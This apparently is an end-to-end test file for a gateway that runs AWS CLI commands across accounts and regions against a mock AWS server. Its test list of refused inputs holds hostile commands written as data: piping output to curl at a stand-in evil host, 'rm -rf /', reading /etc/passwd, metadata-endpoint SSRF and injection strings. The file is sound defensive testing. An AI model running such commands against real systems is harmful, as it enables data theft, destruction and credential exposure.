import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DescribeInstancesCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts';
import { connect, NatsConnection } from 'nats';
import { MotoServer, startMoto, SystemUnderTest, waitFor } from '@app/testing';

/**
 * Fleet commands through the gateway against moto_server with the real `aws` CLI: fan-out across 2 accounts
 * (the default one and one reached by AssumeRole) × 2 regions, policy refusals (nothing stored, nothing spawned),
 * timeouts, max_errors, cancel.
 *
 * The executor runs the CLI through a stand-in (config fleet.aws_binary) that records each invocation and execs
 * the real `aws`: that is how the tests prove a refused command spawned no process.
 */
describe(`Fleet commands (${process.env.E2E_MODE ?? 'standalone'})`, () => {
  const DEFAULT = '123456789012';
  const SECOND = '111111111111';
  const REGIONS = ['us-east-1', 'eu-west-1'];
  let moto: MotoServer;
  let sut: SystemUnderTest;
  let admin: ReturnType<SystemUnderTest['api']>;
  let operator: ReturnType<SystemUnderTest['api']>;
  let nc: NatsConnection | undefined;
  const events: Array<{ subject: string; body: any }> = [];
  const dir = mkdtempSync(join(tmpdir(), 'fleet-cmd-e2e-'));
  const invocationLog = join(dir, 'invocations.log');
  /** instance ids moto holds, per "account/region" */
  const instances: Record<string, string[]> = {};

  const LARGE_LINE = 'e2e é € 😀 "q" \\ end';
  const LARGE_LINES = 100_000;
  const invocations = () => (existsSync(invocationLog) ? readFileSync(invocationLog, 'utf8').split('\n').filter(Boolean) : []);
  const run = (body: Record<string, unknown>, client = operator) => client.post('/api/v1/commands', { targets: { account_ids: [DEFAULT, SECOND], regions: REGIONS }, ...body });
  const finished = async (id: string) => {
    let job: any;
    await waitFor(
      async () => {
        job = (await operator.get(`/api/v1/commands/${id}`)).body;
        return job.status !== 'IN_PROGRESS';
      },
      60000,
      200,
      `command ${id} to finish`,
    );
    return job;
  };
  const resultsOf = async (id: string) => (await operator.get(`/api/v1/commands/${id}/results?limit=500`)).body.items as any[];
  const commandCount = async () => (await admin.get('/api/v1/commands?limit=200')).body.items.length as number;

  beforeAll(async () => {
    // The stand-in CLI: record the arguments (never credentials: those travel in the environment), then the real aws.
    const wrapper = join(dir, 'aws-recording');
    // With the (otherwise meaningless) option --e2e-large-output it prints LARGE_LINES lines instead of calling AWS.
    writeFileSync(wrapper, ['#!/bin/sh', `echo "$*" >> '${invocationLog}'`, `case "$*" in *--e2e-large-output*) yes '${LARGE_LINE}' | head -n ${LARGE_LINES}; exit 0;; esac`, 'exec aws "$@"', ''].join('\n'));
    chmodSync(wrapper, 0o755);
    moto = await startMoto();
    sut = await SystemUnderTest.start(undefined, { env: { ...moto.env, MCP_FLEET_AWS_BINARY: wrapper, MCP_FLEET_SCHEDULER_INTERVAL_SECONDS: '0' } });
    admin = sut.api('admin');
    operator = sut.api('operator');
    if (sut.mode === 'distributed') {
      nc = await connect({ servers: sut.natsUrl });
      const sub = nc.subscribe('fleet.command.>');
      void (async () => {
        for await (const m of sub) events.push({ subject: m.subject, body: JSON.parse(new TextDecoder().decode(m.data)) });
      })();
    }

    for (const body of [
      { account_id: DEFAULT, name: 'default', regions: REGIONS, tags: { env: 'prod' } },
      { account_id: SECOND, name: 'second', role_arn: `arn:aws:iam::${SECOND}:role/x`, regions: REGIONS, tags: { env: 'dev' } },
    ]) {
      const res = await admin.post('/api/v1/accounts', body);
      expect(res.status).toBe(201);
    }

    // EC2 instances per account and region, created with the SDK (the second account through AssumeRole).
    const sts = new STSClient({ region: 'us-east-1', endpoint: moto.endpoint, credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' } });
    const assumed = await sts.send(new AssumeRoleCommand({ RoleArn: `arn:aws:iam::${SECOND}:role/x`, RoleSessionName: 'e2e' }));
    const creds: Record<string, { accessKeyId: string; secretAccessKey: string; sessionToken?: string }> = {
      [DEFAULT]: { accessKeyId: 'testing', secretAccessKey: 'testing' },
      [SECOND]: { accessKeyId: assumed.Credentials!.AccessKeyId!, secretAccessKey: assumed.Credentials!.SecretAccessKey!, sessionToken: assumed.Credentials!.SessionToken! },
    };
    const plan: Array<[string, string, number]> = [
      [DEFAULT, 'us-east-1', 2],
      [DEFAULT, 'eu-west-1', 1],
      [SECOND, 'us-east-1', 1],
      [SECOND, 'eu-west-1', 0],
    ];
    for (const [account, region, n] of plan) {
      instances[`${account}/${region}`] = [];
      if (!n) continue;
      const ec2 = new EC2Client({ region, endpoint: moto.endpoint, credentials: creds[account] });
      const out = await ec2.send(new RunInstancesCommand({ ImageId: 'ami-12c6146b', MinCount: n, MaxCount: n, InstanceType: 't3.micro' }));
      instances[`${account}/${region}`] = out.Instances!.map((i) => i.InstanceId!).sort();
      // moto keeps accounts apart: the other account does not see them
      const check = await ec2.send(new DescribeInstancesCommand({}));
      expect(check.Reservations!.flatMap((r) => r.Instances!.map((i) => i.InstanceId)).length).toBe(n);
    }
  }, 120000);

  afterAll(async () => {
    await nc?.close();
    await sut?.stop();
    await moto?.stop();
    rmSync(dir, { recursive: true, force: true });
  }, 60000);

  it('sts get-caller-identity across 2 accounts × 2 regions: each target answers as its own account', async () => {
    const res = await run({ command: 'aws sts get-caller-identity' });
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({ status: 'IN_PROGRESS', targets_total: 4 });
    expect(res.headers.get('location')).toBe(`/api/v1/commands/${res.body.id}`);
    const job = await finished(res.body.id);
    expect(job).toMatchObject({ status: 'SUCCESS', service: 'sts', operation: 'get-caller-identity', mutating: false, requested_by: { role: 'operator' } });
    expect(job.requested_by.name).toEqual(expect.any(String));
    expect(job.counts).toEqual({ total: 4, pending: 0, in_progress: 0, success: 4, failed: 0, timed_out: 0, cancelled: 0, skipped: 0 });
    expect(Date.parse(job.created_at)).not.toBeNaN();
    expect(Date.parse(job.finished_at)).toBeGreaterThanOrEqual(Date.parse(job.created_at));

    const results = await resultsOf(res.body.id);
    expect(results.map((r) => `${r.account_id}/${r.region}`)).toEqual([`${DEFAULT}/us-east-1`, `${DEFAULT}/eu-west-1`, `${SECOND}/us-east-1`, `${SECOND}/eu-west-1`]);
    for (const r of results) {
      expect(r).toMatchObject({ status: 'SUCCESS', exit_code: 0, error: null });
      expect(JSON.parse(r.output_preview).Account).toBe(r.account_id);
      const whole = await operator.get(`/api/v1/commands/${res.body.id}/results/${r.account_id}/${r.region}`);
      expect(whole.status).toBe(200);
      expect(whole.body.json.Account).toBe(r.account_id);
      expect(whole.body.output_truncated).toBe(false);
    }
    // The second account is reached through AssumeRole; its session is what the CLI used.
    const second = results.find((r) => r.account_id === SECOND);
    expect(JSON.parse(second.output_preview).Arn).toContain(':assumed-role/x/');

    if (sut.mode === 'distributed') {
      await waitFor(async () => events.some((e) => e.subject === 'fleet.command.completed' && e.body.data.id === res.body.id), 10000, 100, 'fleet.command.completed');
      const mine = events.filter((e) => e.body.data.id === res.body.id);
      expect(mine.filter((e) => e.subject === 'fleet.command.started')).toHaveLength(1);
      expect(mine.filter((e) => e.subject === 'fleet.command.target.completed')).toHaveLength(4);
      expect(mine.find((e) => e.subject === 'fleet.command.completed')!.body.data).toMatchObject({ status: 'SUCCESS', counts: { success: 4 } });
      // events carry no output and no credentials
      expect(JSON.stringify(mine)).not.toMatch(/SecretAccessKey|AccessKeyId|testing/);
    }
  });

  it('ec2 describe-instances returns what moto holds in each account and region', async () => {
    const res = await run({ command: 'ec2 describe-instances --query "Reservations[].Instances[].InstanceId"' });
    expect(res.status).toBe(202);
    expect((await finished(res.body.id)).status).toBe('SUCCESS');
    for (const r of await resultsOf(res.body.id)) {
      const whole = await operator.get(`/api/v1/commands/${res.body.id}/results/${r.account_id}/${r.region}`);
      expect([...(whole.body.json as string[])].sort()).toEqual(instances[`${r.account_id}/${r.region}`]);
    }
  });

  it('returns a whole output larger than a NATS message (3 MB, multi-byte characters) exactly; the list shows a 4 KB preview', async () => {
    const expected = `${LARGE_LINE}\n`.repeat(LARGE_LINES);
    expect(Buffer.byteLength(expected)).toBeGreaterThan(2_500_000);
    const res = await run({ command: 'sts get-caller-identity --e2e-large-output', targets: { account_ids: [SECOND], regions: ['eu-west-1'] } });
    expect(res.status).toBe(202);
    expect((await finished(res.body.id)).status).toBe('SUCCESS');
    const [r] = await resultsOf(res.body.id);
    expect(r).toMatchObject({ preview_truncated: true, output_bytes: Buffer.byteLength(expected) });
    expect(Buffer.byteLength(r.output_preview)).toBeLessThanOrEqual(4096);
    expect(expected.startsWith(r.output_preview)).toBe(true);
    const whole = await operator.get(`/api/v1/commands/${res.body.id}/results/${SECOND}/eu-west-1`);
    expect(whole.status).toBe(200);
    expect(whole.body.output_truncated).toBe(false);
    expect(whole.body.stdout.length).toBe(expected.length);
    expect(whole.body.stdout === expected).toBe(true);
    expect(whole.body.json).toBeNull();
  });

  it('`ec2 help` is documentation: kept up to 16 KiB per target and cut like any output past its bound', async () => {
    const res = await run({ command: 'ec2 help', targets: { account_ids: [DEFAULT], regions: ['us-east-1'] } });
    expect(res.status).toBe(202);
    expect((await finished(res.body.id)).status).toBe('SUCCESS');
    const [r] = await resultsOf(res.body.id);
    expect(r.output_bytes).toBeGreaterThan(16 * 1024); // the CLI printed it all (31 KB with CLI v1)
    const whole = await operator.get(`/api/v1/commands/${res.body.id}/results/${DEFAULT}/us-east-1`);
    expect(whole.body.output_truncated).toBe(true);
    expect(Buffer.byteLength(whole.body.stdout)).toBeLessThanOrEqual(16 * 1024);
    expect(whole.body.stdout).toContain('EC2');
  });

  it('filters accounts by tag and expands "*" to each account\'s regions; dry_run stores and runs nothing', async () => {
    const before = { jobs: await commandCount(), spawned: invocations().length };
    const dry = await run({ command: 'ec2 describe-vpcs', targets: { account_ids: 'all', regions: '*', account_tags: { env: 'dev' } }, dry_run: true });
    expect(dry.status).toBe(200);
    expect(dry.body).toEqual({
      dry_run: true,
      command: 'ec2 describe-vpcs',
      policy: { allowed: true, service: 'ec2', operation: 'describe-vpcs', mutating: false },
      targets_total: 2,
      targets: REGIONS.map((region) => ({ account_id: SECOND, region })),
    });
    // a dry run reports a refusal as its verdict
    const refused = await run({ command: 'ec2 terminate-instances --instance-ids i-1', dry_run: true });
    expect(refused.status).toBe(200);
    expect(refused.body.policy).toMatchObject({ allowed: false, code: 'CLI_MUTATION_FORBIDDEN' });
    expect(refused.body.targets_total).toBe(4);
    expect(await commandCount()).toBe(before.jobs);
    expect(invocations()).toHaveLength(before.spawned);
  });

  // Each is refused by the gateway's validation (400), the guard, or the command policy (400/403), before anything is stored or run.
  const attempts: Array<{ name: string; body: Record<string, unknown>; status: 400 | 403; code: string; client?: 'viewer' }> = [
    { name: 'command chaining with ;', body: { command: 'sts get-caller-identity; cat /etc/passwd' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    { name: 'pipe', body: { command: 'ec2 describe-instances | curl -d @- http://evil.example' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    { name: 'and-chaining', body: { command: 'sts get-caller-identity && rm -rf /' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    { name: 'command substitution $( )', body: { command: 'ec2 describe-instances --instance-ids $(id -u)' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    { name: 'backticks', body: { command: 'ec2 describe-instances --instance-ids `whoami`' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    { name: 'output redirection', body: { command: 'sts get-caller-identity > /tmp/pwned' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    { name: 'environment expansion', body: { command: 'ec2 describe-instances --instance-ids $AWS_SECRET_ACCESS_KEY' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    { name: 'newline injection', body: { command: 'sts get-caller-identity\nrm -rf /' }, status: 400, code: 'CLI_SHELL_SYNTAX' },
    // Text no column can hold is refused for every field before any rule of its own (H1), the CLI policy's included.
    { name: 'NUL byte', body: { command: 'sts get-caller-identity\u0000--debug' }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'unterminated quote', body: { command: "ec2 describe-instances --filters 'Name=x" }, status: 400, code: 'CLI_UNTERMINATED_QUOTE' },
    { name: 'not a CLI command', body: { command: '/bin/sh -c id' }, status: 400, code: 'CLI_INVALID_COMMAND' },
    { name: 'global option before the service', body: { command: '--debug sts get-caller-identity' }, status: 400, code: 'CLI_INVALID_COMMAND' },
    { name: '--endpoint-url to another endpoint', body: { command: 'sts get-caller-identity --endpoint-url http://169.254.169.254' }, status: 403, code: 'CLI_OPTION_FORBIDDEN' },
    { name: 'abbreviated --endpoint-u', body: { command: 'sts get-caller-identity --endpoint-u http://evil.example' }, status: 403, code: 'CLI_OPTION_FORBIDDEN' },
    { name: '--profile from the host', body: { command: 'sts get-caller-identity --profile admin' }, status: 403, code: 'CLI_OPTION_FORBIDDEN' },
    { name: '--region to escape the target', body: { command: 'ec2 describe-instances --region ap-south-1' }, status: 403, code: 'CLI_OPTION_FORBIDDEN' },
    { name: 'quoted option name', body: { command: "sts get-caller-identity '--ca-bundle=/etc/ssl/evil.pem'" }, status: 403, code: 'CLI_OPTION_FORBIDDEN' },
    { name: '--cli-input-json', body: { command: 'ec2 describe-instances --cli-input-json {}' }, status: 403, code: 'CLI_OPTION_FORBIDDEN' },
    { name: 'file:// value reads the server', body: { command: 'ec2 describe-instances --filters file:///etc/passwd' }, status: 403, code: 'CLI_LOCAL_ACCESS_FORBIDDEN' },
    { name: 's3 cp to a local path', body: { command: 's3 cp s3://bucket/key /etc/cron.d/x', allow_mutations: true }, status: 403, code: 'CLI_LOCAL_ACCESS_FORBIDDEN' },
    { name: 'configure writes local files', body: { command: 'configure set aws_access_key_id AKIA' }, status: 403, code: 'CLI_LOCAL_ACCESS_FORBIDDEN' },
    { name: 'URL value fetched from the server (SSRF)', body: { command: 'ec2 describe-instances --instance-ids http://169.254.169.254/latest/meta-data/' }, status: 403, code: 'CLI_URL_FETCH_FORBIDDEN' },
    { name: 'credential minting (deny list)', body: { command: 'sts get-session-token' }, status: 403, code: 'CLI_COMMAND_DENIED' },
    { name: 'IAM access keys (deny list, even with allow_mutations)', body: { command: 'iam create-access-key --user-name x', allow_mutations: true }, status: 403, code: 'CLI_COMMAND_DENIED' },
    { name: 'mutation without allow_mutations', body: { command: 'ec2 terminate-instances --instance-ids i-1' }, status: 403, code: 'CLI_MUTATION_FORBIDDEN' },
    { name: 'requested_by forged in the body', body: { command: 'ec2 terminate-instances --instance-ids i-1', allow_mutations: true, requested_by: { name: 'root', role: 'admin' } }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'a viewer may not run commands at all', body: { command: 'sts get-caller-identity' }, status: 403, code: 'FORBIDDEN', client: 'viewer' },
    { name: 'targets missing', body: { command: 'sts get-caller-identity', targets: undefined }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'account id injection', body: { command: 'sts get-caller-identity', targets: { account_ids: ["123456789012' OR 1=1 --"], regions: ['us-east-1'] } }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'region injection', body: { command: 'sts get-caller-identity', targets: { account_ids: 'all', regions: ['us-east-1 --endpoint-url http://x'] } }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'unregistered account', body: { command: 'sts get-caller-identity', targets: { account_ids: ['999999999999'], regions: ['us-east-1'] } }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'timeout over the maximum', body: { command: 'sts get-caller-identity', timeout_seconds: 3601 }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'malformed max_errors', body: { command: 'sts get-caller-identity', max_errors: '10%; rm' }, status: 400, code: 'VALIDATION_FAILED' },
    { name: 'command as an array', body: { command: ['sts', 'get-caller-identity'] }, status: 400, code: 'VALIDATION_FAILED' },
  ];

  it(`refuses ${attempts.length} injection and policy-escape attempts with 400/403 problem+json; nothing is stored or spawned`, async () => {
    expect(attempts.length).toBeGreaterThanOrEqual(20);
    const before = { jobs: await commandCount(), spawned: invocations().length };
    const viewer = sut.api('viewer');
    for (const a of attempts) {
      const body = { targets: { account_ids: [DEFAULT, SECOND], regions: REGIONS }, ...a.body };
      const res = await (a.client === 'viewer' ? viewer : operator).post('/api/v1/commands', body);
      expect({ name: a.name, status: res.status, code: res.body?.code }).toEqual({ name: a.name, status: a.status, code: a.code });
      expect(res.headers.get('content-type')).toContain('application/problem+json');
      if (a.code === 'VALIDATION_FAILED') expect(res.body.errors.length).toBeGreaterThan(0);
    }
    expect(await commandCount()).toBe(before.jobs);
    expect(invocations()).toHaveLength(before.spawned);
  });

  it('a command that outlives timeout_seconds is TIMED_OUT', async () => {
    // The waiter polls every 5 s until the bucket exists, which it never does.
    const res = await run({ command: 's3api wait bucket-exists --bucket no-such-bucket-e2e', targets: { account_ids: [DEFAULT], regions: ['us-east-1'] }, timeout_seconds: 2 });
    expect(res.status).toBe(202);
    const job = await finished(res.body.id);
    expect(job).toMatchObject({ status: 'FAILED', counts: { timed_out: 1 } });
    const [r] = await resultsOf(res.body.id);
    expect(r).toMatchObject({ status: 'TIMED_OUT', error: 'timed out after 2s' });
  });

  it('max_errors: once more targets than allowed have failed, no new target starts and the rest are SKIPPED', async () => {
    const res = await run({ command: 'ec2 describe-instances --instance-ids i-0123456789abcdef0', max_concurrency: 1, max_errors: 1 });
    expect(res.status).toBe(202);
    const job = await finished(res.body.id);
    expect(job.status).toBe('FAILED');
    expect(job.status_reason).toContain('max_errors (1) exceeded');
    expect(job.counts).toMatchObject({ failed: 2, skipped: 2, success: 0 });
    const results = await resultsOf(res.body.id);
    expect(results.map((r) => r.status)).toEqual(['FAILED', 'FAILED', 'SKIPPED', 'SKIPPED']);
    expect(results[0].error).toContain('InvalidInstanceID.NotFound');
    expect(results[2].exit_code).toBeNull();
    const filtered = await operator.get(`/api/v1/commands/${res.body.id}/results?status=SKIPPED&limit=1`);
    expect(filtered.body).toMatchObject({ total: 2, limit: 1 });
    const next = await operator.get(`/api/v1/commands/${res.body.id}/results?status=SKIPPED&limit=1&cursor=${filtered.body.next_cursor}`);
    expect(next.body.items[0]).toMatchObject({ account_id: SECOND, region: 'eu-west-1' });
    expect(next.body.next_cursor).toBeNull();
  });

  it('cancel: the running target is stopped and the pending ones never start; all end CANCELLED', async () => {
    const res = await run({ command: 's3api wait bucket-exists --bucket no-such-bucket-e2e', max_concurrency: 1, timeout_seconds: 120 });
    expect(res.status).toBe(202);
    await waitFor(async () => (await operator.get(`/api/v1/commands/${res.body.id}`)).body.counts.in_progress === 1, 20000, 100, 'a target to run');
    const cancel = await operator.post(`/api/v1/commands/${res.body.id}/cancel`, {});
    expect(cancel.status).toBe(202);
    const job = await finished(res.body.id);
    expect(job).toMatchObject({ status: 'CANCELLED', counts: { cancelled: 4 } });
    expect(job.cancelled_by).toEqual(expect.any(String));
    expect((await operator.post(`/api/v1/commands/${res.body.id}/cancel`, {})).body.code).toBe('COMMAND_NOT_RUNNING');
  });

  it('answers 400/404 problem+json for bad ids and unknown targets', async () => {
    const list = await admin.get('/api/v1/commands?limit=1');
    const id = list.body.items[0].id;
    expect((await operator.get('/api/v1/commands/not-a-uuid')).status).toBe(400);
    expect((await operator.get('/api/v1/commands/6f1c2b1e-3c2d-4a9e-8f7a-0d9c1b2a3e4f')).body.code).toBe('COMMAND_NOT_FOUND');
    expect((await operator.get(`/api/v1/commands/${id}/results/${DEFAULT}/ap-south-1`)).body.code).toBe('COMMAND_RESULT_NOT_FOUND');
    const bad = await operator.get(`/api/v1/commands/${id}/results/123/us-east-1`);
    expect(bad.status).toBe(400);
    expect(bad.body.errors[0].field).toBe('account_id');
    expect((await operator.get(`/api/v1/commands/${id}/results?cursor=zzz`)).body.code).toBe('COMMAND_INVALID_CURSOR');
    expect((await operator.get('/api/v1/commands?status=NOPE')).status).toBe(400);
    const cursor = (text: string) => Buffer.from(text).toString('base64url');
    expect((await operator.get(`/api/v1/commands?cursor=${cursor(`2026-01-01T00:00:00.000Z|${'-'.repeat(36)}`)}`)).body.code).toBe('COMMAND_INVALID_CURSOR');
    expect((await operator.get(`/api/v1/commands?cursor=${cursor('2026-02-30T00:00:00.000Z|6f1c2b1e-3c2d-4a9e-8f7a-0d9c1b2a3e4f')}`)).status).toBe(200);
    expect((await operator.get(`/api/v1/commands/${id}/results?cursor=${cursor('s99999999999')}`)).status).toBe(400);
  });

  it('a command in flight when fleet-service stops ends FAILED "interrupted" (graceful stop, or at the next start after a kill)', async () => {
    const res = await run({ command: 's3api wait bucket-exists --bucket no-such-bucket-e2e', max_concurrency: 1, timeout_seconds: 120 });
    expect(res.status).toBe(202);
    await waitFor(async () => (await operator.get(`/api/v1/commands/${res.body.id}`)).body.counts.in_progress === 1, 20000, 100, 'a target to run');
    // Distributed: SIGTERM to fleet-service (it records the interruption before closing). Standalone: SIGKILL the
    // whole process (nothing is recorded) and start it again on the same data: the start ends the orphan.
    const app = sut.mode === 'distributed' ? 'fleet-service' : 'standalone';
    await sut.stopApp(app, sut.mode === 'distributed' ? 'SIGTERM' : 'SIGKILL');
    await sut.spawnApp(app);
    const job = await finished(res.body.id);
    expect(job).toMatchObject({ status: 'FAILED', counts: { failed: 4 } });
    expect(job.status_reason).toContain('interrupted');
    for (const r of await resultsOf(res.body.id)) expect(r).toMatchObject({ status: 'FAILED', error: expect.stringContaining('interrupted') });
  });

  it('never logs credentials', () => {
    const logs = sut.allLogs();
    expect(logs).toContain('sts get-caller-identity');
    expect(logs).not.toMatch(/SecretAccessKey|aws_secret_access_key|FQoGZXIvYXdzE/);
  });
});
